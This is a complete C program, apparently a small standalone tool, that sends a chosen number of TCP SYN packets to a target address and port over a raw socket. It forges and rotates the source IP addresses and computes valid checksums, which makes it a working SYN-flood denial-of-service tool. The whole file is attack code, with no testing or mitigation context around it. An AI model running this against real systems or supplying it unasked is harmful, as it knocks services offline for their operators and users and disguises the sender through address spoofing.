// SPDX-License-Identifier: Apache-2.0
// Sends the first packets of so many IPv4 TCP connections, which never go on: `syn-flood <source> <destination> <port> <count>`. 50 000 of them come from
// the ports of <source>, the next ones from the address after it.
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/socket.h>

struct segment {
    struct iphdr ip;
    struct tcphdr tcp;
};

static unsigned sum(const void *data, int words) {
    const unsigned short *word = data;
    unsigned all = 0;
    while (words-- > 0) all += *word++;
    return all;
}

static unsigned short folded(unsigned all) {
    while (all >> 16) all = (all & 0xffff) + (all >> 16);
    return ~all;
}

int main(int argc, char **argv) {
    struct segment s = {
        .ip = {.version = 4, .ihl = 5, .tot_len = htons(sizeof s), .ttl = 64, .protocol = IPPROTO_TCP},
        .tcp = {.doff = 5, .syn = 1, .window = htons(1024)},
    };
    if (argc != 5 || inet_pton(AF_INET, argv[2], &s.ip.daddr) != 1) {
        fprintf(stderr, "usage: syn-flood <source> <destination> <port> <count>\n");
        return 2;
    }
    unsigned first = ntohl(inet_addr(argv[1]));
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_addr.s_addr = s.ip.daddr};
    s.tcp.dest = htons(atoi(argv[3]));
    int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
    for (int i = 0; i < atoi(argv[4]); i++) {
        s.ip.saddr = htonl(first + i / 50000);
        s.tcp.source = htons(10000 + i % 50000);
        s.tcp.check = 0;
        s.tcp.check = folded(sum(&s.tcp, sizeof s.tcp / 2) + sum(&s.ip.saddr, 4) + htons(IPPROTO_TCP) + htons(sizeof s.tcp));
        if (sendto(fd, &s, sizeof s, 0, (struct sockaddr *)&to, sizeof to) < 0) {
            perror("syn-flood");
            return 1;
        }
    }
    return 0;
}
